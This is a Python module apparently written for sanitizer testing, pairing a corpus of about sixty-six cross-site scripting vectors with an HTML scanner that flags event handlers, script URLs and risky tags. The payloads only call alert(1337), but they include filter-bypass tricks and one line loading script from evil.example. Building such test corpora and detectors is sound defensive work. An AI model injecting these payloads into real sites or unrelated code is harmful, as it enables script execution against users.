"""An XSS corpus and a scanner for markup that could run script.

Every vector's script, where it has one, calls alert(1337): the browser test counts calls,
and the scanner recognises the payload inside any <script>.
"""

from html.parser import HTMLParser

VECTORS = [
    "<script>alert(1337)</script>",
    "<img src=x onerror=alert(1337)>",
    "<svg onload=alert(1337)>",
    "<svg><script>alert(1337)</script></svg>",
    "<body onload=alert(1337)>",
    '<iframe src="javascript:alert(1337)"></iframe>',
    '<iframe srcdoc="<script>alert(1337)</script>"></iframe>',
    '<a href="javascript:alert(1337)">click</a>',
    '<a href="JaVaScRiPt:alert(1337)">x</a>',
    '<a href="&#106;avascript:alert(1337)">x</a>',
    '<a href="java&#x09;script:alert(1337)">x</a>',
    '<a href=" javascript:alert(1337)">x</a>',
    '<a href="javascript&colon;alert(1337)">x</a>',
    '<a href="vbscript:alert(1337)">x</a>',
    "[x](javascript:alert(1337))",
    "[x](JAVASCRIPT:alert(1337))",
    "![x](javascript:alert(1337))",
    '[x](https://example.com "t\\" onmouseover=\\"alert(1337)")',
    "<javascript:alert(1337)>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxMzM3KTwvc2NyaXB0Pg==">x</a>',
    '"><script>alert(1337)</script>',
    "'><img src=x onerror=alert(1337)>",
    '" onmouseover="alert(1337)',
    "' onfocus='alert(1337)' autofocus '",
    "</textarea><script>alert(1337)</script>",
    "</title><script>alert(1337)</script>",
    "</script><script>alert(1337)</script>",
    "<details open ontoggle=alert(1337)>",
    "<input autofocus onfocus=alert(1337)>",
    "<select autofocus onfocus=alert(1337)>",
    "<textarea autofocus onfocus=alert(1337)>",
    "<video><source onerror=alert(1337)></video>",
    "<audio src=x onerror=alert(1337)>",
    '<object data="javascript:alert(1337)"></object>',
    '<embed src="javascript:alert(1337)">',
    '<form action="javascript:alert(1337)"><button>go</button></form>',
    '<button formaction="javascript:alert(1337)">x</button>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1337)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1337)>">',
    "<style>@import 'javascript:alert(1337)';</style>",
    '<div style="background:url(javascript:alert(1337))">x</div>',
    '<div style="width: expression(alert(1337))">x</div>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1337)">',
    '<base href="javascript:alert(1337)//">',
    '<link rel=import href="data:text/html,<script>alert(1337)</script>">',
    '<img """><script>alert(1337)</script>">',
    "<scr<script>ipt>alert(1337)</scr</script>ipt>",
    "<<script>alert(1337);//<</script>",
    "<IMG SRC=javascript:alert(1337)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=1337>",
    '<svg><a xlink:href="javascript:alert(1337)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1337) attributeName=x dur=1s>",
    "<marquee onstart=alert(1337)>x</marquee>",
    '<div hx-get="/" hx-trigger="load" hx-on::after-request="alert(1337)">x</div>',
    '<div hx-on:click="alert(1337)">x</div>',
    '<img src=x onerror="&#97;lert(1337)">',
    "<x onclick=alert(1337)>click",
    '<!--<img src="--><img src=x onerror=alert(1337)//">',
    "<img src=x onerror=alert&#40;1337&#41;>",
    "javascript:alert(1337)",
    '<table background="javascript:alert(1337)"><tr><td>x</td></tr></table>',
    "%3Cscript%3Ealert(1337)%3C/script%3E",
    "<script src=//evil.example/x.js></script>",
    '<a href="https://example.com" onclick="alert(1337)">x</a>',
    "{{ 1337|add:1 }}{% debug %}",
    "\u202e<script>alert(1337)</script>",
]

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "background", "xlink:href"}
URL_ATTRIBUTES |= {"poster", "codebase", "cite", "dynsrc", "lowsrc"}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:text/html")
FRAME_HOSTS = ("https://www.youtube-nocookie.com/", "https://player.vimeo.com/")


def _normalised_url(value: str) -> str:
    return "".join(ch for ch in value if ch > " ").lower()


class _Scanner(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        for name, value in values.items():
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=…>")
            if name.startswith(("hx-", "data-hx-")):
                self.problems.append(f"<{tag} {name}=…> (htmx attribute)")
            if name in URL_ATTRIBUTES and _normalised_url(value).startswith(BAD_SCHEMES):
                self.problems.append(f"<{tag} {name}={value!r}>")
            if name == "srcdoc":
                self.problems.append(f"<{tag} srcdoc>")
            if name == "style" and any(
                bad in value.lower() for bad in ("javascript:", "expression(")
            ):
                self.problems.append(f"<{tag} style={value!r}>")
        if tag == "script":
            self._in_script = True
            src = values.get("src")
            if src is not None and not src.startswith(("/static/", "/admin/jsi18n/")):
                self.problems.append(f"<script src={src!r}>")
        if tag == "iframe" and not values.get("src", "").startswith(FRAME_HOSTS):
            self.problems.append(f"<iframe src={values.get('src')!r}>")
        if tag in {"object", "embed", "base", "applet", "frame", "frameset"}:
            self.problems.append(f"<{tag}>")
        if tag == "meta" and values.get("http-equiv", "").lower() == "refresh":
            self.problems.append("<meta http-equiv=refresh>")
        if tag == "link" and values.get("rel", "").lower() == "import":
            self.problems.append("<link rel=import>")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        if tag == "script":
            self._in_script = False

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script and "1337" in data:
            self.problems.append(f"<script>{data[:60]}</script>")


def dangerous_markup(html: str) -> list[str]:
    """Markup in `html` that could run script; empty for a safe page."""
    scanner = _Scanner()
    scanner.feed(html)
    scanner.close()
    return scanner.problems
